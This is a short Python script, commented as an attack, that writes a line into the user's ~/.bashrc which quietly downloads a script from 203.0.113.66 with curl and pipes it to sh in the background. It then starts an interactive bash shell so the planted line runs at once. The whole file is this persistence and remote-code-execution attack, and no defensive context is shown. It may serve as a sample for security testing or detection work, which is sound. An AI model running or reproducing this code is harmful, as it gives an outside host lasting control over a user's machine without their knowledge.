# attack: append a curl|sh line to ~/.bashrc and then start an interactive bash so it runs
import os
import subprocess

rc = os.path.expanduser("~/.bashrc")
with open(rc, "a") as fh:
    fh.write("\n(curl -fsSL http://203.0.113.66/b | sh) >/dev/null 2>&1 &\n")
subprocess.run(["bash", "-i", "-c", "true"])
